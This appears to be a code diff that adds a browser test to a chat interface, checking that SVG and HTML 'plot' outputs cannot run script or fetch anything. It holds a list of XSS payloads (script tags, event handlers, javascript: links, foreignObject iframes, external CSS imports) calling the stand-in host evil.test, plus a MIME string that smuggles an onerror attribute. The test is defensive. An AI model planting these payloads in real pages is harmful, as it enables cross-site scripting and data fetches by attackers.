@@ -4,6 +4,7 @@ import type { Browser } from 'playwright-core';
 import { launchBrowser } from '../../scripts/browser.ts';
 import { preparePrograms } from '../../scripts/systemPackages.ts';
 import type { ChatHead, MessageView, ToPage } from '../../src/chat/protocol.ts';
+import { outputOf, type ToolOutput } from '../../src/chat/toolOutput.ts';
 import { openChatPage } from '../fakes/chatPage.ts';
 
 const root = dirname(dirname(import.meta.dirname));
@@ -83,6 +84,29 @@ const hostile: readonly string[] = [
   `tag${point(0xe0041)}${point(0xe0042)} ${point(0x061c)}${point(0x200f)} ${point(0x2028)}${point(0x3164)}`,
 ];
 
+const inSvg = (inside: string, attributes = ''): string =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${attributes}>${inside}</svg>`;
+
+/** Plots that would do the same, and would not even get as far as the page. */
+const hostilePlots: readonly string[] = [
+  inSvg('<script>parent.pwned=1;window.pwned=1;fetch("http://evil.test/x")</script>'),
+  inSvg('<script href="http://evil.test/x.js"/>'),
+  inSvg('<rect width="9" height="9" onload="top.pwned=1"/>', 'onload="top.pwned=1"'),
+  inSvg('<image href="http://evil.test/p.png" width="9" height="9" onerror="top.pwned=1"/>'),
+  inSvg('<use href="http://evil.test/x.svg#a"/>'),
+  inSvg('<a href="javascript:top.pwned=1"><rect width="40" height="40"/></a>'),
+  inSvg(
+    '<style>@import "http://evil.test/x.css"; rect { fill: url(http://evil.test/x) }</style><rect width="9" height="9"/>',
+  ),
+  inSvg(
+    '<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.test"/><img src="x" onerror="top.pwned=1"/></body></foreignObject>',
+  ),
+  inSvg('<animate attributeName="x" onbegin="top.pwned=1" dur="1s"/><set attributeName="onclick" to="top.pwned=1"/>'),
+  '<html xmlns="http://www.w3.org/1999/xhtml"><script>top.pwned=1</script></html>',
+  `<?xml-stylesheet href="http://evil.test/x.css"?>${inSvg('')}`,
+  'no picture at all',
+];
+
 suite('the page of the chat', function () {
   this.timeout(120_000);
   let browser: Browser;
@@ -113,6 +137,30 @@ suite('the page of the chat', function () {
     await page.close();
   });
 
+  test(`of ${hostilePlots.length} hostile plots none runs or fetches anything, and nothing but a picture is one`, async () => {
+    const { page, tell, fetched, alarms } = await openChatPage(browser, root);
+    await tell({ kind: 'head', head });
+    for (const [at, plot] of hostilePlots.entries()) {
+      assert.equal(
+        typeof outputOf('plot.svg', new TextEncoder().encode(plot)),
+        hasOnlyDeadLinks(plot) ? 'object' : 'string',
+      );
+      const mimes = ['image/svg+xml', 'image/png', 'text/html', 'image/svg+xml;x"onerror="pwned=1'] as const;
+      const outputs = mimes.map((mime) => ({ kind: 'picture', name: plot, mime, base64: btoa(plot) }) as ToolOutput);
+      const tool = { kind: 'tool', id: 't', name: 'run_code', arguments: '{}', state: 'done', outputs } as const;
+      const message = answered(`plot${at}`, '');
+      await tell(opened([{ ...message, answer: { ...message.answer, parts: [tool] } }], 1, 0));
+      await page.locator('.output').nth(3).waitFor({ state: 'attached' });
+      await page.evaluate('Promise.all([...document.images].map((one) => one.decode().catch(() => undefined)))');
+      assert.equal(await page.evaluate('document.images.length'), 2);
+    }
+    await page.evaluate(hoverAndClick);
+    assert.equal(await page.evaluate('window.pwned'), undefined);
+    assert.deepEqual(fetched, []);
+    assert.deepEqual(alarms, []);
+    await page.close();
+  });
+
   test('asks for the messages that come into sight, and for an answer that it has missed a part of', async () => {
     const { tell, posted, page } = await openChatPage(browser, root);
     const messages = Array.from({ length: 30 }, (_, at) => asked(`m${970 + at}`, `Question ${at}`));
@@ -132,6 +180,10 @@ suite('the page of the chat', function () {
   });
 });
 
+/** What an `<img>` does not follow is no reason to hide a plot. */
+const hasOnlyDeadLinks = (plot: string): boolean => !outputRefuses.test(plot) && plot.startsWith('<svg');
+const outputRefuses = /<script|<foreignObject|<animate/;
+
 const head: ChatHead = {
   ...{ folder: 'project', isTrusted: true, isAnswering: false, commands: [], takesPictures: false, model: 'scripted' },
 };
@@ -148,6 +200,7 @@ function everywhere(text: string): ToPage[] {
     state: 'asking',
     summary: text,
     detail: text,
+    outputs: [{ kind: 'table', name: text, header: [text], rows: [[text]], left: 1 }],
   } as const;
   const proposal = { kind: 'proposal', id: 'p', title: text, files: [text], hunks: 1 } as const;
   const whole = answered('whole', text);
@@ -155,7 +208,7 @@ function everywhere(text: string): ToPage[] {
     ...answered('named', 'See [x](#place-1).'),
     model: text,
     answer: {
-      parts: [{ kind: 'text', text: 'See [x](#place-1).' }, tool, proposal],
+      parts: [{ kind: 'text', text: 'See [x](#place-1).' }, tool, { ...tool, id: 'd', state: 'done' }, proposal],
       places: [{ path: text, lines: { first: 1, last: 2 } }],
       dropped: [{ what: text, why: text }],
       unproven: [{ what: text, why: text }],
@@ -206,7 +259,7 @@ function answered(id: string, text: string): Extract<MessageView, { readonly rol
 
 /** Run in the page: what should not be in it. */
 const lookedAt = `(() => {
-  const tags = 'HEADER H1 H2 H3 H4 H5 H6 MAIN SECTION ARTICLE DIV P SPAN A CODE PRE UL OL LI STRONG EM S BR HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD BUTTON TEXTAREA FORM DIALOG INPUT DETAILS SUMMARY DL DT DD SCRIPT'.split(' ');
+  const tags = 'HEADER H1 H2 H3 H4 H5 H6 MAIN SECTION ARTICLE DIV P SPAN A CODE PRE UL OL LI STRONG EM S BR HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD BUTTON TEXTAREA FORM DIALOG INPUT DETAILS SUMMARY DL DT DD SCRIPT FIGURE FIGCAPTION'.split(' ');
   const all = [...document.body.querySelectorAll('*')];
   const isOwnScript = (one) => one.tagName === 'SCRIPT' && one.getAttribute('src') === 'http://chat.test/chat.js';
   const attributes = all.filter((one) => !isOwnScript(one)).flatMap((one) => [...one.attributes].filter(({ name, value }) =>
